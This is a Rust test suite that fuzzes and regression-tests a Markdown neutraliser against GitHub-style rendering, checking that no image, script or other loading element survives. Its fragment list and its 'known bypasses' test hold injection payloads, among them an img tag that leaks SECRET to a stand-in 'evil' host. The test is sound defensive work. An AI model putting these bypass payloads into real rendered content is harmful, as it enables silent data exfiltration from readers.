//! Neutralised Markdown checked the way GitHub renders it: adversarial documents built from
//! fragments (bare URLs, backslashes, tags, entities, backticks, images, tables...) go
//! through `markdown::neutralize`, and the result is parsed and rendered by `comrak` in GFM
//! mode, which follows GitHub's cmark-gfm (extended autolinks included), with raw HTML let
//! through: no HTML node, no image node and no loading element may be left.

use std::time::{Duration, Instant};

use comrak::nodes::NodeValue;
use comrak::{Arena, Options, markdown_to_html, parse_document};
use warroom_redact::markdown;

/// Elements that load or run something when rendered.
const LOADING_ELEMENTS: [&str; 12] = [
    "img", "iframe", "video", "audio", "source", "object", "embed", "link", "script", "svg",
    "picture", "style",
];

/// Pieces of adversarial Markdown, glued together by [`SEPARATORS`].
const FRAGMENTS: &[&str] = &[
    "http://ok.example/x",
    "https://e.example/a?b=c",
    "www.e.com",
    "www.e.com/p",
    "ops@e.example",
    "mailto:a@e.example",
    "\\",
    "\\\\",
    "`",
    "``",
    "```",
    "~~~",
    "$",
    "<",
    ">",
    "<img src=\"https&#58;//evil/p.png?d=SECRET\">",
    "<img src=x>",
    "<img",
    " src=http://e/p.png>",
    "<iframe src=http://e>",
    "<video src=http://e/v.mp4>",
    "<audio src=http://e/a.mp3>",
    "<source src=http://e/s>",
    "<object data=http://e/o>",
    "<embed src=http://e/e>",
    "<link rel=stylesheet href=http://e/s.css>",
    "<script>alert(1)</script>",
    "<svg><image href=http://e/i.png /></svg>",
    "<picture>",
    "<style>body{background:url(http://e/b.png)}</style>",
    "<div>",
    "</div>",
    "<a href=\"`\">",
    "<b>",
    "<!-- c -->",
    "<!--",
    "-->",
    "<![CDATA[ x ]]>",
    "<?php x ?>",
    "<!DOCTYPE html>",
    "&#58;",
    "&lt;",
    "&#60;",
    "&#x3c;",
    "&amp;",
    "&#33;",
    "![x](http://e/p.png)",
    "![x](<http://e/p.png>)",
    "![x][r]",
    "![r]",
    "![x][]",
    "[r]: http://e/p.png",
    "[r]: <http://e/p.png> \"t\"",
    "!",
    "[",
    "]",
    "(",
    ")",
    "[a](http://e/l)",
    "[![b](http://e/b.svg)](http://e)",
    "<http://e>",
    "<http://e/p.png>",
    "| a | b |\n|---|---|\n| ",
    " | ",
    "|",
    "*",
    "_",
    "~",
    "# ",
    "- ",
    "1. ",
    "> ",
    "    ",
    "\t",
    "[^1]",
    "[^1]: note",
    "- [ ] ",
    "- [x]\n",
    "1) ",
    "> - ",
    "  ",
    "   ```\n",
    "```\n",
    "```geojson\n",
    "~~~ ![x](http://e/p.png)\n",
    "é",
    "x",
    " ",
    "=",
    "\"",
    "'",
];

/// What goes between two fragments.
const SEPARATORS: &[&str] = &["", "", "", " ", "\n", "\n\n", "\r\n", "\n> ", "\n    "];

/// A small deterministic generator (SplitMix64): the same cases on every run, no seed to
/// record when one fails.
struct Rng(u64);

impl Rng {
    fn next(&mut self) -> u64 {
        self.0 = self.0.wrapping_add(0x9E37_79B9_7F4A_7C15);
        let mut z = self.0;
        z = (z ^ (z >> 30)).wrapping_mul(0xBF58_476D_1CE4_E5B9);
        z = (z ^ (z >> 27)).wrapping_mul(0x94D0_49BB_1331_11EB);
        z ^ (z >> 31)
    }

    fn below(&mut self, n: usize) -> usize {
        (self.next() % n as u64) as usize
    }

    fn pick<'a>(&mut self, from: &[&'a str]) -> &'a str {
        from[self.below(from.len())]
    }
}

fn gfm() -> Options<'static> {
    let mut options = Options::default();
    options.extension.autolink = true;
    options.extension.table = true;
    options.extension.strikethrough = true;
    options.extension.tasklist = true;
    options.extension.footnotes = true;
    options.render.r#unsafe = true;
    options
}

/// The first raw HTML or image node of `markdown`, as GitHub would parse it.
fn html_or_image(markdown: &str) -> Option<NodeValue> {
    let arena = Arena::new();
    let root = parse_document(&arena, markdown, &gfm());
    root.descendants()
        .map(|node| node.data.borrow().value.clone())
        .find(|value| {
            matches!(
                value,
                NodeValue::HtmlBlock(_) | NodeValue::HtmlInline(_) | NodeValue::Image(_)
            )
        })
}

fn has_html_or_image(markdown: &str) -> bool {
    html_or_image(markdown).is_some()
}

/// Why `neutralized` (made from `input`) would load or run something, if it would.
fn what_loads(input: &str, neutralized: &str) -> Option<String> {
    let options = gfm();
    if let Some(value) = html_or_image(neutralized) {
        return Some(format!(
            "{value:?} in\n{neutralized:?}\nmade from\n{input:?}"
        ));
    }
    let html = markdown_to_html(neutralized, &options).to_ascii_lowercase();
    for element in LOADING_ELEMENTS {
        let open = format!("<{element}");
        if let Some(at) = html.match_indices(&open).map(|(at, _)| at).find(|&at| {
            html[at + open.len()..]
                .bytes()
                .next()
                .is_none_or(|b| !b.is_ascii_alphanumeric() && b != b'-')
        }) {
            return Some(format!(
                "<{element}> at {at} of the HTML\n{html}\nfrom\n{neutralized:?}\nmade from\n{input:?}"
            ));
        }
    }
    None
}

fn check(input: &str) {
    let once = markdown::neutralize(input);
    if let Some(live) = what_loads(input, &once) {
        panic!("neutralised Markdown still loads: {live}");
    }
    assert_eq!(
        markdown::neutralize(&once),
        once,
        "neutralising twice changed the output of {input:?}"
    );
}

#[test]
fn generated_documents_render_without_loading_anything() {
    let mut rng = Rng(24);
    let mut live_before = 0;
    for _ in 0..3000 {
        let mut doc = String::new();
        for _ in 0..1 + rng.below(12) {
            doc.push_str(rng.pick(FRAGMENTS));
            doc.push_str(rng.pick(SEPARATORS));
        }
        if has_html_or_image(&doc) {
            live_before += 1;
        }
        check(&doc);
    }
    // The generator must keep producing what it is here to catch.
    assert!(
        live_before > 1000,
        "only {live_before} of 3000 generated documents loaded something before neutralising"
    );
}

#[test]
fn known_bypasses_are_inert() {
    for input in [
        // Issue 24: cmark-gfm's extended autolink keeps the backslash and stops at `<`.
        "http://ok.example/x\\<img src=\"https&#58;//evil/p.png?d=SECRET\">",
        "www.ok.example/x\\<img src=\"https://evil/p.png\">",
        "ops@ok.example\\<img src=https://evil/p.png>",
        "see http://ok.example/x\\<iframe src=https://evil>",
        "http://ok.example/x\\\n<img src=https://evil/p.png>",
        // The autolink swallows backticks: no code span protects the tag.
        "http://ok.example/`<img src=https://evil/p.png>`",
        "www.ok.example/``<video src=https://evil/v.mp4>``",
        // ... and escaped image markers.
        "http://ok.example/x\\![a](https://evil/p.png)",
        "http://ok.example/x ![a](https://evil/p.png)",
        // Raw HTML in table cells and after a pipe-escape.
        "| a |\n|---|\n| http://ok.example\\<img src=https://evil/p.png> |",
        "| a |\n|---|\n| x\\|<img src=https://evil/p.png> |",
        // A backtick inside an attribute pairs differently once the tag is escaped.
        "<a title=\"`\"> `<img src=https://evil/p.png>`",
        // Reference images and images by every route.
        "![x][r]\n\n[r]: https://evil/p.png",
        "![r]\n\n[r]: https://evil/p.png",
        "!![x](https://evil/p.png)",
        "\\\\![x](https://evil/p.png)",
        "[![b](https://evil/b.svg)](https://ok.example)",
    ] {
        check(input);
    }
}

#[test]
fn deep_nesting_stays_linear() {
    // 50 KB of each shape: a pass that is quadratic in it (about 10^9 steps, minutes in a
    // debug build) would overrun the budget, which is generous for a debug build on a busy
    // machine (about 1 s each here).
    let n = 50_000;
    let budget = Duration::from_secs(10);
    for (name, doc) in [
        ("[", "[".repeat(n)),
        ("![", "![".repeat(n / 2)),
        ("<", "<".repeat(n)),
        ("<a", "<a ".repeat(n / 3)),
        ("*", "*".repeat(n)),
        ("_a", "_a".repeat(n / 2)),
        ("`", "`".repeat(n)),
        ("` x", "` x ``".repeat(n / 6)),
        (">", ">".repeat(n)),
        ("> ", "> ".repeat(n / 2)),
        ("- ", "- ".repeat(n / 2)),
        ("\\<", "\\<img ".repeat(n / 6)),
        ("http", "http://e/`<b>`".repeat(n / 14)),
        ("[a](", "[a](".repeat(n / 4)),
        ("lines", "<a title=\"`\">\n".repeat(n / 14)),
    ] {
        let started = Instant::now();
        let once = markdown::neutralize(&doc);
        let took = started.elapsed();
        assert!(took < budget, "{name} x {n}: {took:?}");
        if let Some(live) = what_loads(&doc, &once) {
            panic!("{name} x {n} still loads: {live}");
        }
        assert_eq!(
            markdown::neutralize(&once),
            once,
            "{name} x {n}: not stable"
        );
    }
}
